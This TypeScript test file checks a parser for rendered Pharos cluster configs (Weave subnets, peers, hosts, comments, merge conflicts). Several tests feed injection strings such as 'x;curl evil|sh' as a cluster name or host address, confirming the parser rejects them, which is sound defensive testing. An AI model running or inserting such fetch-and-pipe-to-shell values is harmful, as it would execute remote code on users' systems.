import { PHAROS_DEFAULT_POD_NETWORK_CIDR, PHAROS_DEFAULT_SERVICE_CIDR } from '../src/mesh/pharos-defaults';
import * as path from 'path';
import { clustersOf, damagedClusterFiles, hostsIn, meshStateOf, passwordIn, plainValue, recordsOf, sameSettings, stateFromLines } from '../src/output/plan-state';
import { readTree, REPO } from './helpers';

const file = (cluster: string) => `${cluster}/pharos/cluster.yml`;
const config = (subnet: string, extra = '') =>
  `hosts:\n  - address: 192.0.2.10\n    role: master\n  - address: 192.0.2.11\n    role: worker\nnetwork:\n${extra}  weave:\n    ipalloc_default_subnet: ${subnet}\n    known_peers:\n      - 198.51.100.11\n`;

describe("reading a rendered tree's state", () => {
  it('knows its clusters from the file names alone, ignoring other files', () => {
    const tree = new Map([
      [file('cluster-a'), 'not: [parsed'],
      ['cluster-b/kubernetes/kustomization.yaml', ''],
      ['_teardown/kustomization.yaml', ''],
    ]);
    expect([...clustersOf(tree)]).toEqual(['cluster-a']);
  });

  it('takes only a folder named as a cluster (a DNS-1123 label) for one: its name goes into commands and Markdown', () => {
    // A base commit's output folder arrives in a pull request: a folder named like a shell command or
    // Markdown is a file that differs, never a cluster whose teardown and rmpeer the next steps print.
    const names = ['x;curl evil|sh', 'x`@octocat', 'Upper', '-a', 'a-', 'a'.repeat(64), 'a b'];
    expect([...clustersOf(new Map([...names, 'cluster-z', 'a'.repeat(63)].map((name) => [file(name), config('10.33.0.0/16')])))]).toEqual(['cluster-z', 'a'.repeat(63)]);
  });

  it("reads subnet, pod network, service CIDR and peers, with Pharos's defaults from their one home", () => {
    const state = meshStateOf(new Map([[file('cluster-a'), config('10.33.0.0/16')]]));
    expect(state.get('cluster-a')).toEqual({ subnet: '10.33.0.0/16', podNetworkCidr: PHAROS_DEFAULT_POD_NETWORK_CIDR, serviceCidr: PHAROS_DEFAULT_SERVICE_CIDR, peers: ['198.51.100.11'] });
    expect([PHAROS_DEFAULT_POD_NETWORK_CIDR, PHAROS_DEFAULT_SERVICE_CIDR]).toEqual(['10.32.0.0/12', '10.96.0.0/12']);
    expect(recordsOf(new Map([[file('cluster-a'), config('10.33.0.0/16', '  pod_network_cidr: 10.0.0.0/8\n')]])).get('cluster-a')).toEqual({ subnet: '10.33.0.0/16', podNetworkCidr: '10.0.0.0/8' });
  });

  it("shows a parsed value that is no address or CIDR as a digest: a base's text reaches neither log nor Markdown", () => {
    const content = config('"10.34.0.0/16` <details> @octocat | x"').replace('      - 198.51.100.11\n', '      - "\\e[31mRED"\n      - 198.51.100.11\n');
    const state = meshStateOf(new Map([[file('b'), content]])).get('b')!;
    expect(state.subnet).toMatch(/^invalid-[0-9a-f]{12}$/);
    expect(state.peers).toEqual([expect.stringMatching(/^invalid-[0-9a-f]{12}$/), '198.51.100.11']);
    expect(plainValue('10.34.0.0/16')).toBe('10.34.0.0/16');
    expect(plainValue('node-1.example')).toBe('node-1.example');
    expect(plainValue('a`b')).not.toBe(plainValue('a`c'));
  });

  it("lists a cluster's hosts, masters too, and its password file, as its cluster.yml does", () => {
    const tree = new Map([[file('cluster-a'), config('10.33.0.0/16').replace('  weave:\n', '  weave:\n    password: ../../../clusters/shared_password\n')]]);
    expect(hostsIn(tree, 'cluster-a')).toEqual([
      { address: '192.0.2.10', role: 'master' },
      { address: '192.0.2.11', role: 'worker' },
    ]);
    expect(hostsIn(new Map(), 'cluster-a')).toEqual([]);
    // Hosts Pharos would refuse never ran; their text (a base's, from a pull request) reaches no command.
    const odd = config('10.33.0.0/16').replace('hosts:\n', 'hosts:\n  - address: "a> ; curl evil | sh ; <b"\n    role: worker\n  - address: 192.0.2.9\n    role: "<details>"\n');
    expect(hostsIn(new Map([[file('cluster-a'), odd]]), 'cluster-a')).toEqual([
      { address: '192.0.2.10', role: 'master' },
      { address: '192.0.2.11', role: 'worker' },
    ]);
    expect(passwordIn(tree, 'cluster-a')).toBe('../../../clusters/shared_password');
  });

  it('tells a change of comments from a change of settings', () => {
    const before = new Map([[file('a'), `# from a.yml\n${config('10.33.0.0/16')}`]]);
    expect(sameSettings(before, 'a', new Map([[file('a'), `# from a.yaml\n${config('10.33.0.0/16')}`]]), 'a')).toBe(true);
    expect(sameSettings(before, 'a', new Map([[file('z'), config('10.33.0.0/16')]]), 'z')).toBe(true);
    expect(sameSettings(before, 'a', new Map([[file('a'), config('10.33.0.0/16').replace('198.51.100.11', '198.51.100.12')]]), 'a')).toBe(false);
  });

  it('tells a change of end-of-line comments from a change of settings, unless a quote may hold the #', () => {
    // The inventory's own comments are copied into the rendered file: rewording one asks for no pharos up.
    const commented = (comment: string) => new Map([[file('a'), config('10.33.0.0/16').replace('ipalloc_default_subnet: 10.33.0.0/16', `ipalloc_default_subnet: 10.33.0.0/16 ${comment}`)]]);
    expect(sameSettings(commented("# this cluster's own subnet"), 'a', commented('# the subnet of cluster A'), 'a')).toBe(true);
    expect(sameSettings(commented('# a comment'), 'a', new Map([[file('a'), config('10.33.0.0/16')]]), 'a')).toBe(true);
    expect(sameSettings(commented('# a comment'), 'a', new Map([[file('a'), config('10.34.0.0/16')]]), 'a')).toBe(false);
    // Inside quotes, ` #` is text: a change there is a change of settings.
    const quoted = (text: string) => new Map([[file('a'), `name: "mesh #${text}"\n${config('10.33.0.0/16')}`]]);
    expect(sameSettings(quoted('1'), 'a', quoted('2'), 'a')).toBe(false);
    const multiline = (text: string) => new Map([[file('a'), `name: "mesh\n  two #${text}\n  three"\n${config('10.33.0.0/16')}`]]);
    expect(sameSettings(multiline('1'), 'a', multiline('2'), 'a')).toBe(false);
  });

  it('reads a file laid out as synth writes it as lines, exactly as a full parse reads it', () => {
    const shipped = readTree(path.join(REPO, 'dist'));
    for (const cluster of ['cluster-a', 'cluster-b']) {
      const content = shipped.get(file(cluster))!;
      expect(stateFromLines(content)).toBeDefined();
      expect(stateFromLines(content)).toEqual(meshStateOf(new Map([[file(cluster), content.replace(/^network:/m, 'network: # parsed')]])).get(cluster));
    }
  });

  it.each([
    ['a peer that YAML 1.1 reads as no string', 'known_peers:\n      - 198.51.100.11\n      - on\n'],
    ['a flow list', 'known_peers: [198.51.100.11]\n'],
    ['a quoted peer', 'known_peers:\n      - "198.51.100.11"\n'],
    ['known_peers twice', 'known_peers:\n      - 198.51.100.11\n    known_peers:\n      - 198.51.100.12\n'],
    ['a continuation deeper than the list', 'known_peers:\n      - 198.51.100.11\n        - x\n'],
  ])('parses the file instead when its peers are not plain lines: %s', (_name, peers) => {
    const content = `hosts: []\nnetwork:\n  pod_network_cidr: 10.32.0.0/12\n  weave:\n    ipalloc_default_subnet: 10.33.0.0/16\n    ${peers}`;
    expect(stateFromLines(content)).toBeUndefined();
  });

  it('never reads known_peers outside network.weave as the peers', () => {
    const content = 'hosts: []\nnetwork:\n  pod_network_cidr: 10.32.0.0/12\n  weave:\n    ipalloc_default_subnet: 10.33.0.0/16\n  firewalld:\n    known_peers:\n      - 198.51.100.11\n';
    expect(stateFromLines(content)).toBeUndefined();
    expect(meshStateOf(new Map([[file('a'), content]])).get('a')!.peers).toEqual([]);
  });

  it('reports a cluster.yml with a merge conflict as damaged, at its line, and records nothing for it', () => {
    const tree = new Map([[file('cluster-a'), `${config('10.33.0.0/16')}<<<<<<< HEAD\n=======\n>>>>>>> x\n`]]);
    const [problem, ...rest] = damagedClusterFiles(tree, 'dist');
    expect(rest).toEqual([]);
    expect(problem).toMatchObject({ severity: 'warning', file: `dist/${file('cluster-a')}`, cluster: 'cluster-a', rule: 'output-unreadable' });
    expect(problem.line).toBeGreaterThan(0);
    expect(meshStateOf(tree).size).toBe(0);
  });
});
